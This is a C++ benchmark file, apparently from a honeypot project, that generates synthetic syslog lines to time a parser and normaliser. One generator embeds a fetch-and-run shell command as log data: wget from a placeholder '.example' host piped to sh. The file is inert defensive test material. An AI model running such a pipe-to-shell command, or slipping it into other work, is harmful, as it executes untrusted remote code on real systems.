// Syslog parsing and normalisation throughput on one core, over generated fleet lines shaped
// like the deckies' real output (reference spec §1.3/§1.4): about a fifth credential attempts,
// the rest connections, SMTP, HTTP, sessions, prober results, shell commands and sshd prose, with
// IPv4 and IPv6 attackers. The target is 3,000,000 lines/s for parsing alone.
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <random>
#include <string>
#include <vector>

#include "bench_support.h"
#include "ingest/normalizer.h"
#include "ingest/syslog_parser.h"

namespace {

using decnet::bench::report;
using decnet::bench::seconds_since;

class LineMaker {
 public:
  explicit LineMaker(std::uint32_t seed) : rng_(seed) {}

  std::string next() {
    const unsigned kind = pick(100);
    if (kind < 20) return auth();
    if (kind < 35) return connection();
    if (kind < 47) return smtp();
    if (kind < 62) return http();
    if (kind < 70) return session();
    if (kind < 78) return prober();
    if (kind < 88) return bash();
    if (kind < 94) return sshd();
    return file_captured();
  }

 private:
  unsigned pick(unsigned n) { return static_cast<unsigned>(rng_() % n); }

  std::string ip() {
    if (pick(4) == 0) {
      return "2001:db8:" + hex(pick(65536)) + "::" + hex(pick(65536));
    }
    return std::to_string(1 + pick(223)) + "." + std::to_string(pick(256)) + "." +
           std::to_string(pick(256)) + "." + std::to_string(1 + pick(254));
  }
  static std::string hex(unsigned v) {
    char buf[8];
    std::snprintf(buf, sizeof buf, "%x", v);
    return buf;
  }
  std::string timestamp() {
    char buf[40];
    std::snprintf(buf, sizeof buf, "2026-05-02T%02u:%02u:%02u.%06u+00:00", pick(24), pick(60),
                  pick(60), pick(1'000'000));
    return buf;
  }
  std::string decky() {
    static constexpr const char* kSites[] = {"eu-west-1", "us-east-2", "ap-south-1", "dmz"};
    return std::string(kSites[pick(4)]) + "-decky-" + std::to_string(10 + pick(90));
  }
  std::string word(std::size_t n) {
    static constexpr char kChars[] = "abcdefghijklmnopqrstuvwxyz0123456789";
    std::string s;
    for (std::size_t i = 0; i < n; ++i) s.push_back(kChars[pick(sizeof kChars - 1)]);
    return s;
  }
  std::string header(const char* pri, const std::string& host, const char* app, const char* msgid) {
    return std::string("<") + pri + ">1 " + timestamp() + " " + host + " " + app + " - " + msgid +
           " ";
  }

  std::string auth() {
    static constexpr const char* kApps[] = {"auth-helper", "ftp", "smtp", "postgres", "mysql"};
    const std::string user = pick(2) ? "root" : "admin" + word(3);
    std::string pass = word(6 + pick(8));
    if (pick(10) == 0) pass += "\\\"x\\]";  // escapes now and then
    return header("134", decky(), kApps[pick(5)], "auth_attempt") + "[relay@55555 username=\"" +
           user + "\" principal=\"" + user + "\" secret_printable=\"" + pass + "\" secret_b64=\"" +
           word(24) + "==\" src_ip=\"" + ip() + "\"]";
  }
  std::string connection() {
    return header("134", decky(), pick(2) ? "ftp" : "postgres", "connection") +
           "[relay@55555 src_ip=\"" + ip() + "\" src_port=\"" + std::to_string(1024 + pick(60000)) +
           "\" proto=\"tcp\" session=\"" + word(32) +
           "\" banner=\"vsFTPd 3.0.3\"] connection accepted";
  }
  std::string smtp() {
    return header("132", "mail-" + std::to_string(pick(9)), "smtp", "rcpt_denied") +
           "[relay@55555 src=\"" + ip() + "\" value=\"<" + word(8) + "@victim-" + word(8) +
           ".com>\" helo=\"mx-" + word(16) + ".example.net\" mail_from=\"" + word(7) +
           "@spam.example\" count=\"" + std::to_string(pick(50)) + "\"]";
  }
  std::string http() {
    return header("134", "web-0" + std::to_string(pick(9)), "http", "request") +
           "[relay@55555 method=\"GET\" path=\"/" + word(10) + "\" remote_addr=\"" + ip() +
           "\" headers=\"{\\\"Host\\\": \\\"web-01\\\", \\\"User-Agent\\\": \\\"Mozilla/5.0 (X11; "
           "Linux x86_64) zgrab/0.x\\\", \\\"Accept\\\": \\\"*/*\\\"}\" body=\"\"]";
  }
  std::string session() {
    return header("134", decky(), "sessrec", "session_recorded") + "[relay@55555 sid=\"" + word(6) +
           "\" service=\"ssh\" src_ip=\"" + ip() + "\" duration_s=\"" + std::to_string(pick(1000)) +
           ".417\" bytes=\"" + std::to_string(pick(100000)) + "\" truncated=\"false\"]";
  }
  std::string prober() {
    const std::string target = ip();
    return header("134", "decnet-prober", "prober", "fingerprint_rotated") +
           "[relay@55555 target_ip=\"" + target +
           "\" target_port=\"22\" probe_type=\"hassh\" old_hash=\"" + word(32) + "\" new_hash=\"" +
           word(32) + "\"] FP rotation " + target + " hassh";
  }
  std::string bash() {
    if (pick(2)) {
      return header("14", "dmz-gateway", "bash", "-") + "-  CMD uid=0 user=root src=" + ip() +
             " pwd=/root cmd=wget http://" + word(12) + ".example/x.sh -O- | sh";
    }
    return "<14>1 " + timestamp() + " omega-decky 1 - - -  " + timestamp() +
           " SRV-DELTA-77 bash - command [timeQuality tzKnown=\"1\" isSynced=\"1\" "
           "syncAccuracy=\"326228\"] CMD uid=0 user=root src=" +
           ip() + " pwd=/root cmd=ls /var/www/html";
  }
  std::string sshd() {
    return "<38>1 " + timestamp() + " dmz-gateway sshd " + std::to_string(100 + pick(30000)) +
           " - - Failed password for root from " + ip() + " port " +
           std::to_string(1024 + pick(60000)) + " ssh2";
  }
  std::string file_captured() {
    return header("134", decky(), "ssh", "file_captured") + "[relay@55555 stored_as=\"" + word(20) +
           "_evil.sh\" sha256=\"" + word(64) + "\" size=\"1234\" src_ip=\"" + ip() +
           "\" ssh_user=\"root\"]";
  }

  std::mt19937 rng_;
};

}  // namespace

int main() {
  constexpr std::size_t kLines = 50'000;
  LineMaker maker(42);
  std::vector<std::string> lines;
  lines.reserve(kLines);
  std::size_t bytes = 0;
  for (std::size_t i = 0; i < kLines; ++i) {
    lines.push_back(maker.next());
    bytes += lines.back().size();
  }
  std::printf("# %zu generated lines, %.0f bytes on average\n", kLines,
              static_cast<double>(bytes) / kLines);

  decnet::ingest::SyslogMessage message;
  decnet::ingest::NormalizedEvent event;
  std::string error;
  std::size_t failures = 0;
  for (const auto& line : lines) {  // warm-up: buffers reach their steady-state size
    if (!decnet::ingest::parse_syslog(line, message, &error))
      ++failures;
    else
      decnet::ingest::normalize(message, line, 0, event);
  }
  if (failures != 0) {
    std::fprintf(stderr, "%zu generated lines failed to parse: %s\n", failures, error.c_str());
    return 1;
  }

  const auto measure = [&](bool with_normalize) {
    std::size_t done = 0;
    std::size_t checksum = 0;
    const auto start = std::chrono::steady_clock::now();
    double elapsed = 0;
    do {
      for (const auto& line : lines) {
        decnet::ingest::parse_syslog(line, message, nullptr);
        checksum += message.params.size();
        if (with_normalize) {
          decnet::ingest::normalize(message, line, 0, event);
          checksum += event.fields.size();
        }
      }
      done += lines.size();
      elapsed = seconds_since(start);
    } while (elapsed < 2.0);
    if (checksum == 0) std::puts("# checksum 0");
    return static_cast<double>(done) / elapsed;
  };

  report("ingest_parser", measure(false), "lines/s");
  report("ingest_parse_normalize", measure(true), "lines/s");
  return 0;
}
